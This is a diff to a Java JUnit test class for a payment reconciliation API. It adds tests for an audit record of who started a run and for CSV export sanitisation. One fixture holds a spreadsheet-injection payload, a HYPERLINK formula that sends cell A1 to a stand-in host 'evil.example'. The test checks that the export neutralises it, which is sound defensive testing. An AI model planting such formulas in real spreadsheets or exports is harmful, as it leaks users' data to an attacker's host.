@@ -14,6 +14,7 @@ import java.util.UUID;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
+import org.springframework.http.MediaType;
 import org.springframework.http.ResponseEntity;
 import tools.jackson.databind.JsonNode;
 
@@ -94,9 +95,8 @@ class ReconciliationApiTest extends ReconciliationTestBase {
         assertProblem(api.get("/api/v1/reconciliations/1999-01-01.csv"), 404, "date", "has no reconciliation report");
         assertProblem(api.get("/api/v1/reconciliations?limit=0"), 400, "limit", "must be a whole number from 1 to 366");
 
-        ResponseEntity<String> wrongMethod = api.delete("/api/v1/reconciliations/2026-01-01");
-        assertThat(wrongMethod.getStatusCode().value()).isEqualTo(405);
-        assertThat(json(wrongMethod.getBody()).get("status").asInt()).as("a problem detail").isEqualTo(405);
+        // no rule declares a DELETE: the web module's deny-all answers before Spring MVC could say 405
+        assertProblemType(api.delete("/api/v1/reconciliations/2026-01-01"), 403, "forbidden");
         ResponseEntity<String> notAcceptable = api.get("/api/v1/reconciliations/2026-01-01.csv", "application/xml");
         assertThat(notAcceptable.getStatusCode().value()).isIn(404, 406);
         assertThat(notAcceptable.getHeaders().getContentType()).hasToString("application/problem+json");
@@ -141,6 +141,73 @@ class ReconciliationApiTest extends ReconciliationTestBase {
         assertThat(response.getStatusCode().value()).isEqualTo(409);
         assertThat(json(response.getBody()).get("detail").asString()).contains("already running");
         assertThat(api.report(day).get("status").asString()).isEqualTo("RUNNING");
+    }
+
+    @Test
+    void aRunRecordsWhoStartedItFromWhereAndWithWhichRequest() {
+        LocalDate day = uniqueDay();
+        PSP.serve(day, new SettlementCsv().render());
+        String requestId = "req-audit-" + UUID.randomUUID();
+
+        ResponseEntity<String> posted = api.post("{\"date\":\"" + day + "\"}", MediaType.APPLICATION_JSON, requestId);
+
+        assertThat(posted.getStatusCode().value()).as(posted.getBody()).isEqualTo(200);
+        assertThat(posted.getHeaders().getFirst("X-Request-Id")).isEqualTo(requestId);
+        for (JsonNode shown : List.of(json(posted.getBody()), api.report(day), listed(day))) {
+            JsonNode requestedBy = shown.get("requested_by");
+            assertThat(requestedBy.get("actor").asString()).isEqualTo("operator:test-finance");
+            assertThat(requestedBy.get("credential").asString()).isEqualTo("opk_test");
+            assertThat(requestedBy.get("client_address").asString()).isEqualTo("127.0.0.1");
+            assertThat(requestedBy.get("request_id").asString()).isEqualTo(requestId);
+        }
+        assertThat(jdbc.sql("""
+                SELECT requested_by_actor FROM reconciliation_report WHERE report_date = ?""")
+                .param(day).query(String.class).single()).isEqualTo("operator:test-finance");
+    }
+
+    /**
+     * The settlement file is outside data: a PSP id that starts with {@code =}, {@code @} or {@code +} comes out of
+     * the CSV export as text a spreadsheet shows and does not evaluate (docs/architecture.md, the CSV rule).
+     */
+    @Test
+    void aFindingWhoseTextAFormulaWouldStartIsExportedNeutralised() throws Exception {
+        LocalDate day = uniqueDay();
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")";
+        PSP.serve(day, new SettlementCsv().charge("+txn_1", "@SUM(1+1)", formula, 500, 30, "USD", at(day, 10))
+                .render());
+        api.run(day);
+
+        ResponseEntity<String> csv = api.get("/api/v1/reconciliations/" + day + ".csv");
+
+        assertThat(csv.getStatusCode().value()).as(csv.getBody()).isEqualTo(200);
+        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(csv.getBody())).getRecords();
+        assertThat(records).singleElement().satisfies(r -> {
+            assertThat(r.get("type")).isEqualTo("MISSING_IN_PLATFORM");
+            assertThat(r.get("payment_order_id")).isEqualTo("'" + formula);
+            assertThat(r.get("psp_reference")).isEqualTo("'@SUM(1+1)");
+            assertThat(r.get("balance_transaction_id")).isEqualTo("'+txn_1");
+            assertThat(r.get("actual")).isEqualTo("CHARGED 5.00 USD");
+            assertThat(r.get("actual_minor")).isEqualTo("500");
+            assertThat(r.get("detail")).startsWith("The PSP charged payment intent @SUM(1+1)");
+        });
+        // the JSON report is not a spreadsheet: it shows the ids as the PSP wrote them
+        assertThat(api.report(day).get("discrepancies").get(0).get("payment_order_id").asString()).isEqualTo(formula);
+    }
+
+    private JsonNode listed(LocalDate day) {
+        for (JsonNode report : json(api.get("/api/v1/reconciliations?limit=366").getBody()).get("reconciliations")) {
+            if (report.get("date").asString().equals(day.toString())) {
+                return report;
+            }
+        }
+        throw new AssertionError(day + " is not listed");
+    }
+
+    private static void assertProblemType(ResponseEntity<String> response, int status, String slug) {
+        assertThat(response.getStatusCode().value()).as(response.getBody()).isEqualTo(status);
+        assertThat(response.getHeaders().getContentType()).hasToString("application/problem+json");
+        assertThat(json(response.getBody()).get("type").asString()).isEqualTo("https://kassa.dev/problems/" + slug);
     }
 
     private static void assertProblem(ResponseEntity<String> response, int status, String field, String reason) {
